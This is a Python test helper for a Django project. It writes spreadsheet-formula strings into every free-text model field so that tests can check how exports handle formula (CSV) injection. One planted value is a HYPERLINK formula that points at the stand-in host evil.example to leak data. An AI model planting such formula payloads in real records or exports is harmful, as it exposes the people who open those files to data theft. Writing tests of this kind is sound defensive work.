"""Text a user or an import could store that a spreadsheet program would run: planted into every text field."""

from __future__ import annotations

from collections.abc import Iterable

from django.db import models

# Each starts with one of = + - @ tab CR: what Excel, WPS and LibreOffice read as a formula.
FORMULA_TEXT = (
    '=HYPERLINK("http://evil.example/?leak","点此查看")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1+2)",
    "\t=1+2",
    "\r=1+2",
)
_NOT_FREE_TEXT = ("code", "username", "password", "email", "sha256", "path", "image", "thumbnail", "key")


def text_fields(model: type[models.Model]) -> list[models.Field]:
    """The model's free-text columns: char/text fields without choices that are not codes, keys or numbers."""
    return [
        f
        for f in model._meta.concrete_fields
        if type(f) in (models.CharField, models.TextField)
        and f.editable
        and not f.choices
        and not f.name.endswith(_NOT_FREE_TEXT)
        and not f.name.endswith(("phone", "mobile"))
    ]


def plant(model: type[models.Model], objects: Iterable[models.Model]) -> set[str]:
    """Write formula-like text into every free-text field of ``objects``; returns the values written.

    Each object starts at another place in FORMULA_TEXT so every prefix reaches every column;
    unique fields get the object's id appended.
    """
    planted: set[str] = set()
    fields = text_fields(model)
    for index, obj in enumerate(objects):
        values = {}
        for offset, field in enumerate(fields):
            text = FORMULA_TEXT[(index + offset) % len(FORMULA_TEXT)]
            if field.unique:
                text = f"{text}#{obj.pk}"
            values[field.name] = text[: field.max_length] if field.max_length else text
        model._default_manager.filter(pk=obj.pk).update(**values)
        planted.update(values.values())
    return planted
